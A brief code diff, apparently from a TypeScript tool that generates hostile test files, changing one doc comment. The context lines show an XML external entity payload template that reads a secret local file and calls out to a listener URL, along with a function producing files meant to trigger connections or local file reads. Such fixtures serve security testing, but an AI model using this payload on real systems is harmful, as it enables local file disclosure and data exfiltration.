@@ -104,7 +104,7 @@ const entity = (url: string): string =>
   `<!DOCTYPE x [<!ENTITY secret SYSTEM "${SECRET_FILE}"><!ENTITY call SYSTEM "${url}"><!ENTITY % outside SYSTEM "${url}.dtd"> %outside;]>`
 const ENTITIES = "&secret;&call;"
 
-/** Files that try to make this machine open connections, read its own files or run programs; `urls` lead to a listener. */
+/** Returns files that try to make this machine open connections, read local files or run programs. `urls` point to a listener. */
 export function linkFiles(urls: readonly string[]): HostileFile[] {
   const [url = ""] = urls
   const pdfActions = urls.map(
